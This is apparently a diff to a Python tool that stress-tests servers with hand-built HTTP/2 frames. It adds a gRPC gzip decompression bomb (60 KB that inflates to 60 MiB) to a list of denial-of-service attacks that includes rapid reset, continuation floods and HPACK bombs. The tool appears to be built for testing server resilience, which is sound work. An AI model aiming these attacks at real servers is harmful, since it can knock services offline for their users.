@@ -1,15 +1,17 @@
 """Attackers over raw HTTP/2 frames: what no library would send.
 
     http2_attacker.py ATTACK ADDRESS --path PATH [--seconds N]
-                      [--tls-ca FILE] [--source ADDRESS]
+                      [--tls-ca FILE] [--source ADDRESS] [--nice N]
 
 Runs one attack of ATTACKS with all its connections until the time is over; a
 connection that the server cuts is made again. Prints one line of JSON:
 connections made, bytes sent, calls that the server refused or reset, and how
-long the longest connection stood. Runs at nice 19, so that the processor time
-which it takes is the server's own."""
+long the longest connection stood. Runs at nice 19 unless --nice says otherwise,
+so that the processor time which it takes is the server's own."""
 
 import argparse
+import functools
+import gzip
 import json
 import os
 import socket
@@ -338,6 +340,33 @@ def unfinished_messages(connection):
         connection.take(0.001 if moved else SLOW_SECONDS)
 
 
+@functools.cache
+def bomb():
+    """A message of 60 KB that inflates to 60 MiB."""
+    return b"\1" + message(gzip.compress(b"a" * (60 << 20)))[1:]
+
+
+def packed_messages(connection):
+    data = bomb()
+    connection.start()
+    for stream in stream_ids():
+        connection.windows[stream] = connection.initial_window
+        connection.send(frame(HEADERS, END_HEADERS, stream,
+                              connection.request() +
+                              literal(b"grpc-encoding", b"gzip")))
+        for begin in range(0, len(data), FRAME_BYTES_MAX):
+            part = data[begin:begin + FRAME_BYTES_MAX]
+            while stream in connection.windows and min(
+                    connection.window, connection.windows[stream]) < len(part):
+                connection.take(SLOW_SECONDS)
+            if stream not in connection.windows:
+                break  # refused by its headers
+            connection.send(frame(DATA, 0, stream, part))
+            connection.window -= len(part)
+            connection.windows[stream] -= len(part)
+        connection.take(0.001)
+
+
 def slow_reader(connection):
     """Turns of 2,000 tokens whose reader has room for 100 bytes."""
     connection.start(setting(INITIAL_WINDOW_SIZE, 100))
@@ -397,7 +426,8 @@ ATTACKS = {
     continuation_flood: 2, empty_continuation_flood: 2, huge_metadata: 2,
     many_fields: 2, hpack_bomb: 2, rapid_reset: 2, induced_reset: 2,
     ping_flood: 2, settings_flood: 2, priority_flood: 2, empty_data_flood: 2,
-    oversized_frame: 2, many_streams: 2, unfinished_messages: 1,
+    oversized_frame: 2, many_streams: 2, packed_messages: 2,
+    unfinished_messages: 1,
     slow_reader: 1, slow_handshake: 4, slow_preface: 4, slow_continuation: 4,
     slow_body: 4, silent: 200,
 }
@@ -463,8 +493,9 @@ def main():
     parser.add_argument("--tls-ca")
     parser.add_argument("--source", default="127.0.0.1",
                         help="the address to come from")
+    parser.add_argument("--nice", type=int, default=19)
     options = parser.parse_args()
-    os.nice(19)
+    os.nice(options.nice)
     attacker = Attacker(by_name[options.attack], options)
     print(json.dumps(attacker.run()), flush=True)
     # Its threads are in the middle of something.
